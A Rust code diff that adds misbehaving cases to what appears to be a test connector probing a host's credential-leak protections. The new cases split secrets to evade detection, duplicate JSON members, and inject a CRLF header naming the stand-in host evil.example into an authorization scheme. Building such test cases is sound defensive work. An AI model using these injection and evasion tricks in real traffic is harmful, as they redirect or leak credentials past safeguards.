@@ -3,7 +3,7 @@
 use crate::behaviour::{told, waste};
 use crate::behaviours::Behaviour;
 use crate::bindings::connector::credential::http::{
-    Authorization, Basic, Method, Pair, Request, RequestBody, Segment,
+    Authorization, Basic, Method, Pair, Request, RequestBody, Scheme, Segment,
 };
 use crate::bindings::connector::credential::types::Setting;
 use crate::bindings::exports::connector::credential::connection::ApiAuthentication;
@@ -134,7 +134,31 @@ pub(crate) fn request(settings: &[Setting]) -> Request {
             let encoded: String = secret.bytes().map(|it| format!("%{it:02x}")).collect();
             get(&format!("{}?{encoded}", text(settings, "argument")))
         }
+        Behaviour::NameInPieces => form(vec![in_pieces("secret", &secret)]),
+        Behaviour::GuessInPieces => form(vec![pair("s", value()), in_pieces("g", extra)]),
+        Behaviour::GuessAcrossFields => {
+            let (first, second) = extra.split_at(extra.len() / 2);
+            form(vec![
+                pair("s", value()),
+                pair("g", words(first)),
+                pair(second, words("")),
+            ])
+        }
+        Behaviour::MemberTwice => Request {
+            method: Method::Post,
+            body: RequestBody::JsonObject(vec![pair("s", value()), pair("s", words("x"))]),
+            ..get(text(settings, "argument"))
+        },
         _ => get(text(settings, "argument")),
+    }
+}
+
+/// A text in two pieces, each shorter than what is looked for.
+fn in_pieces(name: &str, text: &str) -> Pair {
+    let (first, second) = text.split_at(text.len() / 2);
+    Pair {
+        name: name.to_owned(),
+        value: vec![words(first), words(second)],
     }
 }
 
@@ -206,6 +230,14 @@ pub(crate) fn authentication(settings: &[Setting], access: &str) -> ApiAuthentic
             authorization: None,
             headers: vec![pair("x-note", words("x"))],
         },
+        Some(Behaviour::AuthenticateScheme) => ApiAuthentication {
+            authorization: Some(Authorization::Other(Scheme {
+                name: "Bearer x\r\nhost: evil.example".to_owned(),
+                credentials: access.to_owned(),
+            })),
+            headers: Vec::new(),
+        },
+        Some(Behaviour::AuthenticateName) => also(pair("x-note", words(access))),
         Some(Behaviour::AuthenticateOther) => bearer(&secret(settings, "secret")),
         Some(Behaviour::AuthenticateTwice) => also(in_header("x-api-key")),
         Some(Behaviour::LongList) => ApiAuthentication {
